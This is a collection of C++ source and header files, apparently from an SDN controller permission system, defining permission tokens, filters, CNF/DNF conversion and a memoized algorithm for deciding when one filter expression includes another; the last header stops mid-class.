  std::vector<Clause> clauses = dnfClauses(expr, false);
  // A conjunctive clause containing l AND ¬l is unsatisfiable: drop it.
  std::erase_if(clauses, hasContradiction);
  return Dnf{dedupClauses(std::move(clauses))};
}

bool literalIncludes(const Literal& a, const Literal& b) {
  // Interned literals make the reflexive case a pointer test (inclusion is
  // reflexive for every filter kind).
  if (a.filter.get() == b.filter.get()) return a.negated == b.negated;
  if (a.filter->dimension() != b.filter->dimension()) return false;
  if (!a.negated && !b.negated) return a.filter->includes(*b.filter);
  if (a.negated && b.negated) return b.filter->includes(*a.filter);
  return false;  // Mixed polarity: conservatively unknown.
}

namespace {

/// Step 2 of Algorithm 1: every conjunctive clause of B must be included in
/// every disjunctive clause of A; a disjunctive clause includes a
/// conjunctive clause when some literal pair (same dimension) is in
/// inclusion relation.
bool cnfIncludesDnf(const Cnf& a, const Dnf& b) {
  if (b.clauses.empty()) return true;  // Subset is unsatisfiable.
  for (const Clause& ca : a.clauses) {
    for (const Clause& cb : b.clauses) {
      bool included = false;
      for (const Literal& la : ca) {
        for (const Literal& lb : cb) {
          if (literalIncludes(la, lb)) {
            included = true;
            break;
          }
        }
        if (included) break;
      }
      if (!included) return false;
    }
  }
  return true;
}

}  // namespace

bool filterIncludes(const FilterExprPtr& superset,
                    const FilterExprPtr& subset) {
  if (!superset) return true;  // Unrestricted includes everything.
  if (!subset) {
    // subset is allow-all; only an (effectively) allow-all expression
    // includes it — undecidable in general, so answer conservatively.
    return false;
  }
  // Canonicalize both operands: structurally equal trees (the common case
  // across apps sharing a manifest, and across repeated policy probes of
  // the same boundary) collapse to the same pointers, making the memo key
  // exact and the CNF/DNF conversions shareable.
  FilterExprPtr super = internExpr(superset);
  FilterExprPtr sub = internExpr(subset);
  InclusionCache& cache = inclusionCache();
  PtrPair key{super.get(), sub.get()};
  {
    std::lock_guard lock(cache.mutex);
    if (auto it = cache.results.find(key); it != cache.results.end()) {
      cache.inclusionHits.fetch_add(1, std::memory_order_relaxed);
      return it->second;
    }
  }
  cache.inclusionMisses.fetch_add(1, std::memory_order_relaxed);
  // Step 1 of Algorithm 1: superset -> CNF, subset -> DNF (each conversion
  // itself memoized per canonical pointer).
  std::shared_ptr<const Cnf> a = cachedCnf(super);
  std::shared_ptr<const Dnf> b = cachedDnf(sub);
  bool included = cnfIncludesDnf(*a, *b);
  std::lock_guard lock(cache.mutex);
  if (cache.results.size() >= InclusionCache::kMaxInclusionEntries) {
    cache.results.clear();
  }
  cache.results.emplace(key, included);
  return included;
}

InclusionCacheStats inclusionCacheStats() {
  InclusionCache& cache = inclusionCache();
  InclusionCacheStats stats;
  stats.inclusionHits = cache.inclusionHits.load(std::memory_order_relaxed);
  stats.inclusionMisses =
      cache.inclusionMisses.load(std::memory_order_relaxed);
  stats.formHits = cache.formHits.load(std::memory_order_relaxed);
  stats.formMisses = cache.formMisses.load(std::memory_order_relaxed);
  std::lock_guard lock(cache.mutex);
  stats.inclusionEntries = cache.results.size();
  return stats;
}

void clearInclusionCache() {
  InclusionCache& cache = inclusionCache();
  std::lock_guard lock(cache.mutex);
  cache.results.clear();
  cache.cnf.clear();
  cache.dnf.clear();
}

bool filterEquivalent(const FilterExprPtr& a, const FilterExprPtr& b) {
  if (!a && !b) return true;
  return filterIncludes(a, b) && filterIncludes(b, a);
}

}  // namespace sdnshield::perm
