#include "core/perm/normal_form.h"

#include <algorithm>
#include <sstream>

namespace sdnshield::perm {

namespace {

bool literalEquals(const Literal& a, const Literal& b) {
  return a.negated == b.negated && a.filter->equals(*b.filter);
}

/// True when the clause contains both l and ¬l for the same filter.
bool hasContradiction(const Clause& clause) {
  for (std::size_t i = 0; i < clause.size(); ++i) {
    for (std::size_t j = i + 1; j < clause.size(); ++j) {
      if (clause[i].negated != clause[j].negated &&
          clause[i].filter->equals(*clause[j].filter)) {
        return true;
      }
    }
  }
  return false;
}

Clause dedupLiterals(Clause clause) {
  Clause out;
  for (Literal& lit : clause) {
    bool dup = std::any_of(out.begin(), out.end(), [&](const Literal& seen) {
      return literalEquals(seen, lit);
    });
    if (!dup) out.push_back(std::move(lit));
  }
  return out;
}

std::vector<Clause> dedupClauses(std::vector<Clause> clauses) {
  std::vector<Clause> out;
  for (Clause& clause : clauses) {
    bool dup = std::any_of(out.begin(), out.end(), [&](const Clause& seen) {
      if (seen.size() != clause.size()) return false;
      return std::all_of(seen.begin(), seen.end(), [&](const Literal& a) {
        return std::any_of(clause.begin(), clause.end(), [&](const Literal& b) {
          return literalEquals(a, b);
        });
      });
    });
    if (!dup) out.push_back(std::move(clause));
  }
  return out;
}

/// Cross product: conjunction of two clause-disjunctions (for CNF) or
/// disjunction of two clause-conjunctions (for DNF) distributes into
/// pairwise-merged clauses.
std::vector<Clause> crossMerge(const std::vector<Clause>& lhs,
                               const std::vector<Clause>& rhs) {
  std::vector<Clause> out;
  out.reserve(lhs.size() * rhs.size());
  for (const Clause& a : lhs) {
    for (const Clause& b : rhs) {
      Clause merged = a;
      merged.insert(merged.end(), b.begin(), b.end());
      out.push_back(dedupLiterals(std::move(merged)));
    }
  }
  return out;
}

// Builds DNF clauses of `expr` under an odd/even number of enclosing
// negations. In DNF a clause is a conjunction; disjunction concatenates
// clause lists and conjunction cross-merges them.
std::vector<Clause> dnfClauses(const FilterExprPtr& expr, bool negated) {
  switch (expr->op()) {
    case FilterExpr::Op::kSingleton:
      return {{Literal{expr->filter(), negated}}};
    case FilterExpr::Op::kNot:
      return dnfClauses(expr->lhs(), !negated);
    case FilterExpr::Op::kAnd: {
      auto lhs = dnfClauses(expr->lhs(), negated);
      auto rhs = dnfClauses(expr->rhs(), negated);
      if (!negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
    case FilterExpr::Op::kOr: {
      auto lhs = dnfClauses(expr->lhs(), negated);
      auto rhs = dnfClauses(expr->rhs(), negated);
      if (negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
  }
  return {};
}

// Dual construction for CNF (clause = disjunction).
std::vector<Clause> cnfClauses(const FilterExprPtr& expr, bool negated) {
  switch (expr->op()) {
    case FilterExpr::Op::kSingleton:
      return {{Literal{expr->filter(), negated}}};
    case FilterExpr::Op::kNot:
      return cnfClauses(expr->lhs(), !negated);
    case FilterExpr::Op::kAnd: {
      auto lhs = cnfClauses(expr->lhs(), negated);
      auto rhs = cnfClauses(expr->rhs(), negated);
      if (negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
    case FilterExpr::Op::kOr: {
      auto lhs = cnfClauses(expr->lhs(), negated);
      auto rhs = cnfClauses(expr->rhs(), negated);
      if (!negated) return crossMerge(lhs, rhs);
      lhs.insert(lhs.end(), rhs.begin(), rhs.end());
      return lhs;
    }
  }
  return {};
}

std::string clauseToString(const Clause& clause, const char* joiner) {
  std::ostringstream out;
  out << "(";
  for (std::size_t i = 0; i < clause.size(); ++i) {
    if (i > 0) out << joiner;
    out << clause[i].toString();
  }
  out << ")";
  return out.str();
}

}  // namespace

std::string Literal::toString() const {
  return negated ? "NOT " + filter->toString() : filter->toString();
}

bool Cnf::evaluate(const ApiCall& call) const {
  for (const Clause& clause : clauses) {
    bool any = std::any_of(clause.begin(), clause.end(), [&](const Literal& l) {
      return l.evaluate(call);
    });
    if (!any) return false;
  }
  return true;  // Empty CNF is true.
}

bool Dnf::evaluate(const ApiCall& call) const {
  for (const Clause& clause : clauses) {
    bool all = std::all_of(clause.begin(), clause.end(), [&](const Literal& l) {
      return l.evaluate(call);
    });
    if (all) return true;
  }
  return false;  // Empty DNF is false.
}

std::string Cnf::toString() const {
  std::ostringstream out;
  for (std::size_t i = 0; i < clauses.size(); ++i) {
    if (i > 0) out << " AND ";
    out << clauseToString(clauses[i], " OR ");
  }
  return out.str();
}

std::string Dnf::toString() const {
  std::ostringstream out;
  for (std::size_t i = 0; i < clauses.size(); ++i) {
    if (i > 0) out << " OR ";
    out << clauseToString(clauses[i], " AND ");
  }
  return out.str();
}

Cnf toCnf(const FilterExprPtr& expr) {
  std::vector<Clause> clauses = cnfClauses(expr, false);
  // A disjunctive clause containing l OR ¬l is a tautology: drop it.
  std::erase_if(clauses, hasContradiction);
  return Cnf{dedupClauses(std::move(clauses))};
}

Dnf toDnf(const FilterExprPtr& expr) {
  std::vector<Clause> clauses = dnfClauses(expr, false);
  // A conjunctive clause containing l AND ¬l is unsatisfiable: drop it.
  std::erase_if(clauses, hasContradiction);
  return Dnf{dedupClauses(std::move(clauses))};
}

bool literalIncludes(const Literal& a, const Literal& b) {
  if (a.filter->dimension() != b.filter->dimension()) return false;
  if (!a.negated && !b.negated) return a.filter->includes(*b.filter);
  if (a.negated && b.negated) return b.filter->includes(*a.filter);
  return false;  // Mixed polarity: conservatively unknown.
}

bool filterIncludes(const FilterExprPtr& superset,
                    const FilterExprPtr& subset) {
  if (!superset) return true;  // Unrestricted includes everything.
  if (!subset) {
    // subset is allow-all; only an (effectively) allow-all expression
    // includes it — undecidable in general, so answer conservatively.
    return false;
  }
  // Step 1 of Algorithm 1: superset -> CNF, subset -> DNF.
  Cnf a = toCnf(superset);
  Dnf b = toDnf(subset);
  if (b.clauses.empty()) return true;  // Subset is unsatisfiable.
  // Step 2: every conjunctive clause of B must be included in every
  // disjunctive clause of A; a disjunctive clause includes a conjunctive
  // clause when some literal pair (same dimension) is in inclusion relation.
  for (const Clause& ca : a.clauses) {
    for (const Clause& cb : b.clauses) {
      bool included = false;
      for (const Literal& la : ca) {
        for (const Literal& lb : cb) {
          if (literalIncludes(la, lb)) {
            included = true;
            break;
          }
        }
        if (included) break;
      }
      if (!included) return false;
    }
  }
  return true;
}

bool filterEquivalent(const FilterExprPtr& a, const FilterExprPtr& b) {
  if (!a && !b) return true;
  return filterIncludes(a, b) && filterIncludes(b, a);
}

}  // namespace sdnshield::perm
