// Permissions and permission sets. A permission is a token optionally
// refined by a filter expression; a PermissionSet is the unit of granting,
// comparison and reconciliation. Permission sets form a lattice under the
// MEET/JOIN operations of the security policy language (§V).
#pragma once

#include <map>
#include <optional>
#include <string>
#include <vector>

#include "core/perm/filter_expr.h"
#include "core/perm/normal_form.h"
#include "core/perm/token.h"

namespace sdnshield::perm {

/// One granted privilege: `PERM <token> [LIMITING <filter_expr>]`.
/// A null filter means the token is unrestricted.
struct Permission {
  Token token = Token::kReadStatistics;
  FilterExprPtr filter;

  std::string toString() const;
};

class PermissionSet {
 public:
  PermissionSet() = default;

  /// Grants a token. When the token is already present the grant widens it
  /// (disjunction of filters; an unrestricted grant absorbs filtered ones).
  void grant(Token token, FilterExprPtr filter = nullptr);

  /// Narrows an existing grant by conjoining @p filter (permission
  /// customization, §V). No-op when the token is not granted.
  void restrict(Token token, FilterExprPtr filter);

  void revoke(Token token);

  bool has(Token token) const { return grants_.contains(token); }

  /// The filter of a granted token (null = unrestricted). Empty optional
  /// when the token is not granted at all.
  std::optional<FilterExprPtr> filterFor(Token token) const;

  std::vector<Permission> permissions() const;
  std::size_t size() const { return grants_.size(); }
  bool empty() const { return grants_.empty(); }

  /// Set inclusion of allowed behaviours: every grant of @p other is covered
  /// by a grant here (token present, filter includes per Algorithm 1).
  bool includes(const PermissionSet& other) const;

  /// Semantic equality via mutual inclusion.
  bool equivalent(const PermissionSet& other) const;

  /// Lattice meet: behaviours allowed by both sets.
  static PermissionSet meet(const PermissionSet& a, const PermissionSet& b);

  /// Lattice join: behaviours allowed by either set.
  static PermissionSet join(const PermissionSet& a, const PermissionSet& b);

  /// All stub macro names appearing anywhere in the set.
  std::vector<std::string> collectStubs() const;

  /// Substitutes stub macros per @p bindings (in-place copy semantics).
  PermissionSet substituteStubs(
      const std::map<std::string, FilterExprPtr>& bindings) const;

  /// Pretty-prints in the permission language.
  std::string toString() const;

  friend bool operator==(const PermissionSet& a, const PermissionSet& b) {
    return a.equivalent(b);
  }

 private:
  // nullptr value = unrestricted token.
  std::map<Token, FilterExprPtr> grants_;
};

}  // namespace sdnshield::perm
