// Normal forms and the paper's Algorithm 1: deciding the inclusion relation
// between composite filter expressions by converting the candidate superset
// to CNF, the candidate subset to DNF, and scanning clause pairs, matching
// singleton filters per attribute dimension.
//
// The decision is *sound* for security: includes() == true implies genuine
// set inclusion of allowed behaviours; a false answer may occasionally be a
// conservative under-approximation (e.g. for mixed-polarity literals).
#pragma once

#include <string>
#include <vector>

#include "core/perm/filter_expr.h"

namespace sdnshield::perm {

/// A possibly negated singleton filter.
struct Literal {
  FilterPtr filter;
  bool negated = false;

  bool evaluate(const ApiCall& call) const {
    return filter->evaluate(call) != negated;
  }
  std::string toString() const;
};

/// In CNF a clause is a disjunction of literals; in DNF a conjunction.
using Clause = std::vector<Literal>;

/// CNF: conjunction of (disjunctive) clauses. DNF: disjunction of
/// (conjunctive) clauses. An empty clause list means "true" for CNF and
/// "false" for DNF; kept distinct by the callers.
struct Cnf {
  std::vector<Clause> clauses;
  bool evaluate(const ApiCall& call) const;
  std::string toString() const;
};

struct Dnf {
  std::vector<Clause> clauses;
  bool evaluate(const ApiCall& call) const;
  std::string toString() const;
};

/// Converts an expression to CNF / DNF (negation-normal form first, then
/// distribution). Exponential in the worst case, as in the paper; these run
/// at reconciliation time, not on the enforcement hot path.
Cnf toCnf(const FilterExprPtr& expr);
Dnf toDnf(const FilterExprPtr& expr);

/// Literal-level inclusion: allowed(a) ⊇ allowed(b)?
///  * pos ⊇ pos  iff  a.filter ⊇ b.filter (same dimension),
///  * ¬a ⊇ ¬b    iff  b.filter ⊇ a.filter,
///  * mixed polarity: conservatively false.
bool literalIncludes(const Literal& a, const Literal& b);

/// Algorithm 1. True when allowed(superset) ⊇ allowed(subset).
/// Null expressions denote the unrestricted filter (allow-all).
bool filterIncludes(const FilterExprPtr& superset, const FilterExprPtr& subset);

/// Semantic equality via mutual inclusion.
bool filterEquivalent(const FilterExprPtr& a, const FilterExprPtr& b);

/// Counters of the process-wide memo behind filterIncludes: inclusion
/// results are cached by canonical (hash-consed) operand pointer pair, and
/// the CNF/DNF conversions feeding Algorithm 1 are cached per canonical
/// pointer. Within one market reconcile pass every app re-asks the same
/// policy-bound inclusions, so the memo turns the O(apps × constraints)
/// clause-pair scans into hashed lookups.
struct InclusionCacheStats {
  std::uint64_t inclusionHits = 0;
  std::uint64_t inclusionMisses = 0;
  std::uint64_t formHits = 0;    ///< CNF/DNF conversions served from cache.
  std::uint64_t formMisses = 0;  ///< CNF/DNF conversions computed.
  std::size_t inclusionEntries = 0;
};
InclusionCacheStats inclusionCacheStats();

/// Drops every memoized inclusion result and cached normal form (counters
/// keep counting). Test hook; never required for correctness — canonical
/// pointers are process-stable, so entries cannot dangle or go stale.
void clearInclusionCache();

}  // namespace sdnshield::perm
