// Coarse-grained permission tokens (paper Table II): the first level of the
// two-level permission abstraction. Tokens are orthogonal privileges on an
// (SDN resource, action) pair; the second level — filters — refines them.
#pragma once

#include <optional>
#include <string>

namespace sdnshield::perm {

enum class Token {
  // Flow table resource.
  kReadFlowTable,
  kInsertFlow,  ///< Covers insert and modify (Table II note).
  kDeleteFlow,
  kFlowEvent,
  // Topology resource.
  kVisibleTopology,
  kModifyTopology,
  kTopologyEvent,
  // Statistics & errors.
  kReadStatistics,
  kErrorEvent,
  // Packet-in / packet-out.
  kReadPayload,
  kSendPktOut,
  kPktInEvent,
  // Host system.
  kHostNetwork,
  kFileSystem,
  kProcessRuntime,
  // App-market lifecycle (live policy updates, revocation): operator-grade
  // privilege, granted only to management apps.
  kMarketAdmin,
};

inline constexpr Token kAllTokens[] = {
    Token::kReadFlowTable,   Token::kInsertFlow,   Token::kDeleteFlow,
    Token::kFlowEvent,       Token::kVisibleTopology,
    Token::kModifyTopology,  Token::kTopologyEvent,
    Token::kReadStatistics,  Token::kErrorEvent,   Token::kReadPayload,
    Token::kSendPktOut,      Token::kPktInEvent,   Token::kHostNetwork,
    Token::kFileSystem,      Token::kProcessRuntime,
    Token::kMarketAdmin,
};

/// Which class of SDN resource a token guards.
enum class ResourceClass {
  kFlowTable,
  kTopology,
  kStatistics,
  kPacketIo,
  kHostSystem,
  kLifecycle,  ///< The app market itself (install/upgrade/revoke/policy).
};

/// What the app does with the resource.
enum class ActionClass { kRead, kWrite, kEvent };

ResourceClass resourceOf(Token token);
ActionClass actionOf(Token token);

/// Canonical permission-language spelling, e.g. "insert_flow".
std::string toString(Token token);

/// Parses a token name. Accepts the canonical names plus the aliases the
/// paper itself uses interchangeably ("network_access" == host_network,
/// "send_packet_out" == send_pkt_out, "read_topology" == visible_topology).
std::optional<Token> parseToken(const std::string& name);

}  // namespace sdnshield::perm
