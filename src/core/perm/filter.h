// Singleton permission filters (paper §IV): the fine-grained second level of
// the permission abstraction. A singleton filter labels an API call
// true/false by inspecting one attribute dimension. Filters on different
// dimensions are independent (the key property behind Algorithm 1).
//
// Filters are immutable values shared via shared_ptr<const Filter>.
#pragma once

#include <cstdint>
#include <memory>
#include <set>
#include <string>
#include <utility>

#include "core/perm/api_call.h"
#include "of/match.h"
#include "of/messages.h"
#include "of/types.h"

namespace sdnshield::perm {

enum class FilterKind : std::uint8_t {
  kFieldPredicate,
  kWildcard,
  kAction,
  kOwnership,
  kMaxPriority,
  kMinPriority,
  kTableSize,
  kPktOut,
  kPhysicalTopology,
  kVirtualTopology,
  kCallback,
  kStatistics,
  kStub,  ///< Unresolved customization macro (§V, permission customization).
};

class Filter;
using FilterPtr = std::shared_ptr<const Filter>;

/// Abstract singleton filter.
class Filter {
 public:
  virtual ~Filter() = default;

  virtual FilterKind kind() const = 0;

  /// Dimension identity: filters with different dimensions are independent
  /// and can never include one another. Encodes (kind, sub-dimension).
  virtual std::uint32_t dimension() const {
    return static_cast<std::uint32_t>(kind()) << 16;
  }

  /// Labels the API call. "Not applicable" attributes (the call carries no
  /// attribute of this filter's category) label true; attributes of the
  /// right category that are *wider* than the filter allows label false.
  virtual bool evaluate(const ApiCall& call) const = 0;

  /// True when every call this->evaluate()s true on, @p other does too is
  /// implied — i.e. allowed(*this) ⊇ allowed(other). Only meaningful within
  /// one dimension; callers must check dimension() equality first.
  virtual bool includes(const Filter& other) const = 0;

  virtual bool equals(const Filter& other) const = 0;

  virtual std::string toString() const = 0;
};

// --- flow filters -----------------------------------------------------------

/// Predicate filter: the call's flow predicate on `field` must be at least
/// as narrow as the filter's value range (paper: "only allows API calls with
/// narrower predicates to pass through"). For host-network calls, IP_DST /
/// TP_DST constrain the remote endpoint instead.
class FieldPredicateFilter final : public Filter {
 public:
  /// IPv4 range form: `IP_DST 10.13.0.0 MASK 255.255.0.0`.
  FieldPredicateFilter(of::MatchField field, of::MaskedIpv4 range);
  /// Exact integer form for non-IP fields: `TP_DST 80`.
  FieldPredicateFilter(of::MatchField field, std::uint64_t value);

  FilterKind kind() const override { return FilterKind::kFieldPredicate; }
  std::uint32_t dimension() const override;
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  of::MatchField field() const { return field_; }
  const of::MaskedIpv4& range() const { return range_; }

 private:
  bool isIpField() const;

  of::MatchField field_;
  of::MaskedIpv4 range_;     // IP fields.
  std::uint64_t value_ = 0;  // non-IP fields.
};

/// Wildcard filter: forces the listed bits of `field` to be wildcarded in
/// issued rules (`WILDCARD IP_DST 255.255.255.0` = the app may only
/// discriminate flows on the unlisted bits).
class WildcardFilter final : public Filter {
 public:
  /// IP form with explicit bit mask of must-be-wildcard bits.
  WildcardFilter(of::MatchField field, of::Ipv4Address mustWildcardBits);
  /// Non-IP form: the whole field must be wildcarded.
  explicit WildcardFilter(of::MatchField field);

  FilterKind kind() const override { return FilterKind::kWildcard; }
  std::uint32_t dimension() const override;
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

 private:
  bool isIpField() const;

  of::MatchField field_;
  of::Ipv4Address mustWildcard_{0xffffffffu};
};

/// Action filter: bounds what rule/packet-out actions may do.
/// DROP < FORWARD < MODIFY(field): DROP allows only dropping, FORWARD allows
/// outputs but no header rewriting, MODIFY f additionally allows rewriting
/// field f.
class ActionFilter final : public Filter {
 public:
  enum class Mode { kDrop, kForward, kModify };

  static FilterPtr drop();
  static FilterPtr forward();
  static FilterPtr modify(of::MatchField field);

  FilterKind kind() const override { return FilterKind::kAction; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  Mode mode() const { return mode_; }

 private:
  ActionFilter(Mode mode, of::MatchField field) : mode_(mode), field_(field) {}

  Mode mode_;
  of::MatchField field_;  // Only for kModify.
};

/// Ownership filter: OWN_FLOWS restricts flow visibility/manipulation to
/// flows previously issued by the app; ALL_FLOWS is unrestricted.
class OwnershipFilter final : public Filter {
 public:
  explicit OwnershipFilter(bool ownOnly) : ownOnly_(ownOnly) {}

  FilterKind kind() const override { return FilterKind::kOwnership; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  bool ownOnly() const { return ownOnly_; }

 private:
  bool ownOnly_;
};

/// Priority bound filter: MAX_PRIORITY n / MIN_PRIORITY n.
class PriorityFilter final : public Filter {
 public:
  PriorityFilter(bool isMax, std::uint16_t bound)
      : isMax_(isMax), bound_(bound) {}

  FilterKind kind() const override {
    return isMax_ ? FilterKind::kMaxPriority : FilterKind::kMinPriority;
  }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  std::uint16_t bound() const { return bound_; }

 private:
  bool isMax_;
  std::uint16_t bound_;
};

/// Table size filter: MAX_RULE_COUNT n — caps the rules an app may keep
/// installed on one switch.
class TableSizeFilter final : public Filter {
 public:
  explicit TableSizeFilter(std::size_t maxRules) : maxRules_(maxRules) {}

  FilterKind kind() const override { return FilterKind::kTableSize; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  std::size_t maxRules() const { return maxRules_; }

 private:
  std::size_t maxRules_;
};

/// Packet-out provenance filter: FROM_PKT_IN restricts packet-outs to
/// re-emissions of buffered packet-ins; ARBITRARY allows fabricated packets.
class PktOutFilter final : public Filter {
 public:
  explicit PktOutFilter(bool fromPktInOnly) : fromPktInOnly_(fromPktInOnly) {}

  FilterKind kind() const override { return FilterKind::kPktOut; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  bool fromPktInOnly() const { return fromPktInOnly_; }

 private:
  bool fromPktInOnly_;
};

// --- topology filters --------------------------------------------------------

/// Physical topology filter: exposes/permits only the listed switches and
/// links (`SWITCH {0,1} LINK {(0,1)}`).
class PhysicalTopologyFilter final : public Filter {
 public:
  using LinkPair = std::pair<of::DatapathId, of::DatapathId>;

  PhysicalTopologyFilter(std::set<of::DatapathId> switches,
                         std::set<LinkPair> links);

  FilterKind kind() const override { return FilterKind::kPhysicalTopology; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  const std::set<of::DatapathId>& switches() const { return switches_; }
  const std::set<LinkPair>& links() const { return links_; }

 private:
  std::set<of::DatapathId> switches_;
  std::set<LinkPair> links_;  // Canonicalised with first <= second.
};

/// Virtual topology filter: VIRTUAL SINGLE_BIG_SWITCH (or an explicit switch
/// map). A translation marker — the permission engine's deputy rewrites API
/// calls/responses through the virtual mapping, so evaluation itself passes.
class VirtualTopologyFilter final : public Filter {
 public:
  /// Empty memberSwitches means SINGLE_BIG_SWITCH over the whole topology.
  explicit VirtualTopologyFilter(std::set<of::DatapathId> memberSwitches = {});

  FilterKind kind() const override { return FilterKind::kVirtualTopology; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  bool isSingleBigSwitch() const { return members_.empty(); }
  const std::set<of::DatapathId>& members() const { return members_; }

 private:
  std::set<of::DatapathId> members_;
};

// --- event & statistics filters ----------------------------------------------

/// Event callback capability filter: EVENT_INTERCEPTION /
/// MODIFY_EVENT_ORDER. Pure observation is always allowed by the event
/// token; the stronger callback interactions need the capability.
class CallbackFilter final : public Filter {
 public:
  enum class Capability { kInterception, kModifyOrder };

  explicit CallbackFilter(Capability capability) : capability_(capability) {}

  FilterKind kind() const override { return FilterKind::kCallback; }
  std::uint32_t dimension() const override;
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  Capability capability() const { return capability_; }

 private:
  Capability capability_;
};

/// Statistics granularity filter: FLOW_LEVEL / PORT_LEVEL / SWITCH_LEVEL.
class StatisticsFilter final : public Filter {
 public:
  explicit StatisticsFilter(of::StatsLevel level) : level_(level) {}

  FilterKind kind() const override { return FilterKind::kStatistics; }
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  of::StatsLevel level() const { return level_; }

 private:
  of::StatsLevel level_;
};

/// Unresolved customization stub (macro name left by the developer for the
/// administrator, e.g. `LIMITING AdminRange`). Denies everything until the
/// reconciliation preprocessor substitutes it.
class StubFilter final : public Filter {
 public:
  explicit StubFilter(std::string name) : name_(std::move(name)) {}

  FilterKind kind() const override { return FilterKind::kStub; }
  std::uint32_t dimension() const override;
  bool evaluate(const ApiCall& call) const override;
  bool includes(const Filter& other) const override;
  bool equals(const Filter& other) const override;
  std::string toString() const override;

  const std::string& name() const { return name_; }

 private:
  std::string name_;
};

}  // namespace sdnshield::perm
