// Filter interner (hash-consing): canonicalizes Filter objects so that
// semantically equal filters share one FilterPtr and equality degrades to
// pointer comparison. Interning runs at manifest-compile / normal-form time,
// off the enforcement hot path; the win is that the O(n²) equals() scans in
// CNF/DNF dedup and contradiction checks become hashed-set lookups on
// pointers.
#pragma once

#include <cstddef>
#include <cstdint>
#include <mutex>
#include <unordered_map>
#include <vector>

#include "core/perm/filter_expr.h"

namespace sdnshield::perm {

/// Structural hash of a filter. Filters that equals() agree on hash equally;
/// different filters may collide (resolved by equals() in the interner).
std::size_t filterHash(const Filter& filter);

/// Hash-consing table for singleton filters. Thread-safe; filters are
/// immutable so an interned pointer stays canonical for the table's
/// lifetime.
class FilterInterner {
 public:
  /// The process-wide interner used by normal forms and the permission
  /// engine. Never torn down (filters from it may be cached anywhere).
  static FilterInterner& global();

  /// Canonical representative of @p filter: the first equal filter ever
  /// interned. After interning, `a->equals(*b)` iff `a == b` for any two
  /// interned pointers.
  FilterPtr intern(FilterPtr filter);

  struct Stats {
    std::size_t uniqueFilters = 0;
    std::uint64_t hits = 0;    ///< intern() calls answered by an existing entry.
    std::uint64_t misses = 0;  ///< intern() calls that inserted a new entry.
  };
  Stats stats() const;

 private:
  mutable std::mutex mutex_;
  // Bucketed by structural hash; equals() resolves collisions.
  std::unordered_map<std::size_t, std::vector<FilterPtr>> buckets_;
  std::size_t count_ = 0;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
};

/// Rebuilds @p expr with every singleton leaf replaced by its interned
/// representative. Untouched subtrees are shared, as in substituteStubs.
FilterExprPtr internFilters(const FilterExprPtr& expr);

}  // namespace sdnshield::perm
