// Filter interner (hash-consing): canonicalizes Filter objects so that
// semantically equal filters share one FilterPtr and equality degrades to
// pointer comparison. Interning runs at manifest-compile / normal-form time,
// off the enforcement hot path; the win is that the O(n²) equals() scans in
// CNF/DNF dedup and contradiction checks become hashed-set lookups on
// pointers.
#pragma once

#include <cstddef>
#include <cstdint>
#include <mutex>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "core/perm/filter_expr.h"

namespace sdnshield::perm {

/// Structural hash of a filter. Filters that equals() agree on hash equally;
/// different filters may collide (resolved by equals() in the interner).
std::size_t filterHash(const Filter& filter);

/// Hash-consing table for singleton filters. Thread-safe; filters are
/// immutable so an interned pointer stays canonical for the table's
/// lifetime.
class FilterInterner {
 public:
  /// The process-wide interner used by normal forms and the permission
  /// engine. Never torn down (filters from it may be cached anywhere).
  static FilterInterner& global();

  /// Canonical representative of @p filter: the first equal filter ever
  /// interned. After interning, `a->equals(*b)` iff `a == b` for any two
  /// interned pointers.
  FilterPtr intern(FilterPtr filter);

  struct Stats {
    std::size_t uniqueFilters = 0;
    std::uint64_t hits = 0;    ///< intern() calls answered by an existing entry.
    std::uint64_t misses = 0;  ///< intern() calls that inserted a new entry.
  };
  Stats stats() const;

 private:
  mutable std::mutex mutex_;
  // Bucketed by structural hash; equals() resolves collisions.
  std::unordered_map<std::size_t, std::vector<FilterPtr>> buckets_;
  std::size_t count_ = 0;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
};

/// Rebuilds @p expr with every singleton leaf replaced by its interned
/// representative. Untouched subtrees are shared, as in substituteStubs.
FilterExprPtr internFilters(const FilterExprPtr& expr);

/// Hash-consing table for whole filter-expression trees. Leaves are interned
/// through FilterInterner; interior nodes are deduplicated bottom-up by
/// (op, canonical children), so after interning, structural equality of two
/// trees degrades to pointer equality. Canonical pointers are stable for the
/// life of the process (the table never evicts — like FilterInterner), which
/// is what lets the normal-form inclusion memo and the engine optimizer key
/// on raw expression pointers.
class ExprInterner {
 public:
  /// The process-wide tree interner. Never torn down.
  static ExprInterner& global();

  /// Canonical representative of @p expr (null stays null). Runs at
  /// manifest-compile / reconcile time, never on the enforcement hot path.
  FilterExprPtr intern(const FilterExprPtr& expr);
